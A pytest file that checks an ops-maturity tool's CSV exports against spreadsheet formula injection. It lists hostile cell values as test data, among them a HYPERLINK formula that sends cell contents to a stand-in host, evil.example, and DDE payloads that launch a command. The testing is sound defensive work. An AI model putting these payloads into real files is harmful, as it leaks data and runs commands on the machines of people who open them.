"""CSV formula injection (OWASP): hostile names from a config or an answers file reach every
CSV export as text a spreadsheet shows, never as a formula it runs."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import shutil
from pathlib import Path

import pytest
from typer.testing import CliRunner

from opsmaturity.cli import app
from opsmaturity.csvsafe import TRIGGERS, safe_cell
from opsmaturity.demo.answers import demo_answers
from opsmaturity.practices.answers import dump_response

from .conftest import ROOT

runner = CliRunner()
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_becomes_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Checkout", "a=b", "", 3, -0.25, None, "x-1"])
def test_everything_else_is_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: text starting with a trigger, not a number."""
    found = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(TRIGGERS):
                try:
                    float(cell)
                except ValueError:
                    found.append(cell)
    return found


def test_hostile_names_are_neutralised_in_every_csv_export(tmp_path: Path) -> None:
    shutil.copytree(ROOT / "examples" / "files", tmp_path / "files")
    config = (ROOT / "examples" / "files.yaml").read_text()
    config = config.replace("name: Initech", 'name: \'=HYPERLINK("http://evil.example","x")\'')
    config += '\nteams:\n  "@SUM(1+1)":\n    repositories: ["initech/*"]\n'
    for name in HOSTILE[:3]:  # answers must name configured teams
        config += f'  {json.dumps(name)}:\n    repositories: ["initech/*"]\n'
    (tmp_path / "files.yaml").write_text(config)
    answers = []
    for i, response in enumerate(demo_answers()[:3]):
        path = tmp_path / f"a{i}.yaml"
        dump_response(dataclasses.replace(response, team=HOSTILE[i]), path)
        answers += ["--answers", str(path)]

    metrics = runner.invoke(app, ["metrics", "-c", str(tmp_path / "files.yaml"), "-f", "csv"])
    assert metrics.exit_code == 0, metrics.output
    assert "'=HYPERLINK" in metrics.output and "'@SUM(1+1)" in metrics.output
    assert formula_cells(metrics.output) == []

    out = tmp_path / "out" / "r.pdf"
    report = runner.invoke(
        app, ["report", "-c", str(tmp_path / "files.yaml"), *answers, "--out", str(out)]
    )
    assert report.exit_code == 0, report.output
    exports = sorted(out.parent.glob("r-*.csv"))
    assert {p.name for p in exports} >= {"r-metrics.csv", "r-practices.csv"}
    for export in exports:
        assert formula_cells(export.read_text()) == [], export.name
    practices = (out.parent / "r-practices.csv").read_text()
    assert "'-2+3+cmd" in practices or "'=HYPERLINK" in practices

    blank = runner.invoke(app, ["questionnaire", "export", "--format", "csv"])
    assert blank.exit_code == 0 and formula_cells(blank.output) == []
